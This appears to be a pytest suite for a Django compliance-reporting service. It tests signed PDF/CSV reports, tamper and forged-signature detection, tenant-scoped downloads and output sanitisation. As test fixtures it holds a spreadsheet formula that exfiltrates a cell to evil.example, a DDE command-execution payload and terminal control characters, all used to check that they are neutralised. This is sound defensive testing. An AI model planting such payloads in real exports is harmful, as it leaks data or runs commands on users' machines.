"""Signed reports: content, signature, tamper detection, output safety and tenancy."""

from __future__ import annotations

import base64
import csv
import io
import json
from datetime import timedelta
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from pypdf import PdfReader

from jobs.models import ServerCompliance
from lockdown import clock
from reports import signing
from reports.documents import clean_text, csv_cell, pdf_text
from reports.models import Report, ReportFormat, SigningKey
from reports.services import ReportRefused, report_create
from servers.audit import Actor
from servers.crypto import decrypt_secret
from servers.models import AuditEvent
from servers.tenancy import Scope, scope_for_user

pytestmark = pytest.mark.django_db
MSP = Scope(user_id=None, msp_role="admin")
# No NUL here: PostgreSQL cannot store one in JSON, and the runner strips it from host output
# before anything is stored (tests/integration/jobs/test_job_flow.py).
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")\x1b[31m\u202eevil\x07' + "x" * 2000


def _make(customer, fmt=ReportFormat.PDF, scope=MSP):
    now = clock.now()
    return report_create(
        scope=scope,
        actor=Actor.system("test"),
        customer=customer,
        fmt=fmt,
        period_start=now - timedelta(days=7),
        period_end=now,
    )


def _write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def test_key_is_generated_once_and_its_private_half_is_encrypted_at_rest():
    key = signing.installation_key()
    assert signing.installation_key().pk == key.pk
    assert SigningKey.objects.count() == 1
    raw_private = base64.b64decode(decrypt_secret(key.private_key_encrypted))
    assert len(raw_private) == 32
    assert base64.b64encode(raw_private).decode() not in key.private_key_encrypted
    assert "BEGIN PUBLIC KEY" in signing.public_key_pem(key)


def test_pdf_report_lists_every_rule_with_waivers_and_verifies(tmp_path, tenant_a, fleet_of):
    servers = fleet_of(tenant_a.customer, 2)
    report = _make(tenant_a.customer)
    pages = PdfReader(io.BytesIO(bytes(report.content))).pages
    text = " ".join(" ".join(page.extract_text() for page in pages).split())  # table cells wrap
    assert "Compliance report: Tenant A Ltd" in text
    assert servers[0].name in text
    assert servers[1].name in text
    assert "file_acl.rule_009" in text
    assert "builtin v1" in text
    assert "Vendor needs it." in text  # a waived outcome's justification
    assert "The application vendor requires this right" in text  # the waiver table
    path = _write(tmp_path, report.filename, bytes(report.content))
    call_command("verify_report", str(path))  # the embedded signature
    sig = _write(tmp_path, "detached.sig", report.signature.encode())
    call_command("verify_report", str(path), "--signature", str(sig))
    evidence = _write(tmp_path, report.evidence_filename, bytes(report.evidence))
    call_command("verify_report", str(evidence), "--signature", str(sig))
    doc = json.loads(bytes(report.evidence))
    assert {s["name"] for s in doc["servers"]} == {s.name for s in servers} | {tenant_a.server.name}
    assert sorted(len(s["outcomes"]) for s in doc["servers"]) == [0, 10, 10]


@pytest.mark.parametrize("fmt", [ReportFormat.PDF, ReportFormat.CSV])
def test_an_edited_report_or_signature_is_detected(tmp_path, tenant_a, fleet_of, fmt):
    fleet_of(tenant_a.customer, 1)
    report = _make(tenant_a.customer, fmt)
    data = bytes(report.content)
    body, manifest = signing.split_embedded(data)
    # A PDF embeds its signature after %%EOF; a CSV is spreadsheet-clean: its signature is only the .sig.
    assert (manifest is not None) == (fmt == ReportFormat.PDF)
    assert signing.sha256_hex(body) == report.sha256
    sig = _write(tmp_path, "report.sig", report.signature.encode())
    call_command("verify_report", str(_write(tmp_path, f"intact.{fmt}", data)), "--signature", str(sig))
    needle = b"file_acl.rule_003" if fmt == ReportFormat.CSV else b"/Title"
    edited = data.replace(needle, needle[:-1] + b"X", 1)
    assert edited != data
    with pytest.raises(CommandError, match="MODIFIED"):
        call_command("verify_report", str(_write(tmp_path, f"edited.{fmt}", edited)), "--signature", str(sig))
    # A forged manifest (hash of the edited file) fails the signature check.
    forged = dict(json.loads(report.signature))
    forged["report"] = {**forged["report"], "sha256": signing.sha256_hex(signing.split_embedded(edited)[0])}
    sig = _write(tmp_path, "forged.sig", json.dumps(forged).encode())
    with pytest.raises(CommandError, match="BAD SIGNATURE"):
        call_command("verify_report", str(_write(tmp_path, f"edited2.{fmt}", edited)), "--signature", str(sig))
    # A file without any signature is refused, not accepted.
    with pytest.raises(CommandError, match="no signature"):
        call_command("verify_report", str(_write(tmp_path, f"bare.{fmt}", body)))


def test_the_csv_is_one_header_row_and_rows_of_equal_width_whose_signature_is_the_sig(tmp_path, tenant_a, fleet_of):
    fleet_of(tenant_a.customer, 2)
    report = _make(tenant_a.customer, ReportFormat.CSV)
    text = bytes(report.content).decode("utf-8")
    assert "#" not in text  # no comment or signature line a spreadsheet would read as a row
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "customer"
    assert {len(row) for row in rows} == {len(rows[0])}
    assert len(rows) == 1 + 10 + 10 + 1  # two servers of ten outcomes, the tenant's server without any
    # The signed SHA-256 is of exactly the bytes downloaded.
    assert json.loads(report.signature)["report"]["sha256"] == signing.sha256_hex(bytes(report.content))
    path = _write(tmp_path, report.filename, bytes(report.content))
    _write(tmp_path, report.signature_filename, report.signature.encode())
    call_command("verify_report", str(path))  # finds REPORT.csv.sig beside it


def test_a_report_signed_by_another_key_is_refused(tmp_path, tenant_a, fleet_of):
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    fleet_of(tenant_a.customer, 1)
    report = _make(tenant_a.customer, ReportFormat.CSV)
    path = _write(tmp_path, "r.csv", bytes(report.content))
    _write(tmp_path, "r.csv.sig", report.signature.encode())
    other = Ed25519PrivateKey.generate().public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    with pytest.raises(CommandError, match="BAD SIGNATURE"):
        call_command("verify_report", str(path), "--public-key", base64.b64encode(other).decode())
    pem = _write(tmp_path, "ours.pem", signing.public_key_pem(signing.installation_key()).encode())
    call_command("verify_report", str(path), "--public-key", str(pem))


def test_host_text_is_neutralised_in_csv_and_sanitised_in_pdf(tenant_a, fleet_of):
    server = fleet_of(tenant_a.customer, 1)[0]
    compliance = ServerCompliance.objects.get(server=server)
    outcomes = compliance.outcomes
    outcomes[0]["observed_text"] = HOSTILE
    outcomes[0]["target"] = "@SUM(1+1)"
    outcomes[1]["observed_text"] = "\t=cmd|' /C calc'!A0"
    outcomes[2]["observed_text"] = "-2+3"
    ServerCompliance.objects.filter(pk=compliance.pk).update(outcomes=outcomes)
    csv_report = _make(tenant_a.customer, ReportFormat.CSV)
    rows = list(csv.reader(io.StringIO(bytes(csv_report.content).decode())))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'@SUM(1+1)" in cells
    hostile = next(c for c in cells if "HYPERLINK" in c)
    assert hostile.startswith("'=")
    assert "\x1b" not in hostile
    assert "\u202e" not in hostile
    assert "\x07" not in hostile
    assert len(hostile) <= 2001
    pdf_report = _make(tenant_a.customer, ReportFormat.PDF)
    text = "".join(p.extract_text() for p in PdfReader(io.BytesIO(bytes(pdf_report.content))).pages)
    assert "\x1b" not in text
    assert "\u202e" not in text
    assert "xxxxxxxxxx" in text  # length-capped
    assert "x" * 400 not in text


def test_text_helpers():
    assert clean_text("a\x00b\r\nc\u202ed") == "a b  c d"
    assert clean_text("y" * 500, 10) == "yyyyyyy..."
    assert pdf_text("Zürich → ok") == "Zürich ? ok"
    assert csv_cell("=1+2") == "'=1+2"
    assert csv_cell("\r=1") == "'=1"
    assert csv_cell("plain") == "plain"


def test_fleet_report_is_for_msp_users_only(tenant_a, cora):
    scope = scope_for_user(cora)
    with pytest.raises(ReportRefused):
        _make(None, ReportFormat.CSV, scope=scope)
    report = _make(None, ReportFormat.CSV)
    assert report.customer is None
    assert json.loads(bytes(report.evidence))["scope"] == "whole fleet"
    assert AuditEvent.objects.filter(action="report.create").count() == 1


def test_customer_viewer_downloads_only_its_own_reports(client, tenant_a, tenant_b, cora, fleet_of):
    fleet_of(tenant_a.customer, 1)
    fleet_of(tenant_b.customer, 1)
    own = _make(tenant_a.customer, ReportFormat.CSV)
    other = _make(tenant_b.customer, ReportFormat.CSV)
    fleet = _make(None, ReportFormat.CSV)
    client.force_login(cora)
    for name in ("report_download", "report_evidence", "report_signature"):
        assert client.get(reverse(name, kwargs={"report_id": own.pk})).status_code == 200
        assert client.get(reverse(name, kwargs={"report_id": other.pk})).status_code == 404
        assert client.get(reverse(name, kwargs={"report_id": fleet.pk})).status_code == 404
    listing = client.get(reverse("report_list")).content.decode()
    url = "report_download"
    assert reverse(url, kwargs={"report_id": own.pk}) in listing
    assert reverse(url, kwargs={"report_id": other.pk}) not in listing
    assert reverse(url, kwargs={"report_id": fleet.pk}) not in listing
    # Asking for customer B's report through the form is refused as an invalid choice.
    response = client.post(
        reverse("report_create"),
        {"customer": tenant_b.customer.pk, "format": "csv", "start": "2020-01-01", "end": "2020-01-02"},
    )
    assert response.status_code == 400
    assert Report.objects.filter(customer=tenant_b.customer).count() == 1


def test_report_form_makes_a_signed_report(client, tenant_a, alice, fleet_of, inline_reports):
    fleet_of(tenant_a.customer, 2)
    client.force_login(alice)
    today = clock.now().date()
    form = {"customer": tenant_a.customer.pk, "format": "pdf", "start": str(today - timedelta(days=3))}
    response = inline_reports(lambda: client.post(reverse("report_create"), {**form, "end": str(today)}))
    assert response.status_code == 302
    report = Report.objects.get()
    assert response["Location"] == reverse("report_detail", kwargs={"report_id": report.pk})
    assert report.status == "ready"
    assert report.server_count == 3  # with the tenant's own server
    assert report.created_by_name == "alice"
    download = client.get(reverse("report_download", kwargs={"report_id": report.pk}))
    assert download["Content-Type"] == "application/pdf"
    assert "attachment" in download["Content-Disposition"]
    assert bytes(download.content) == bytes(report.content)
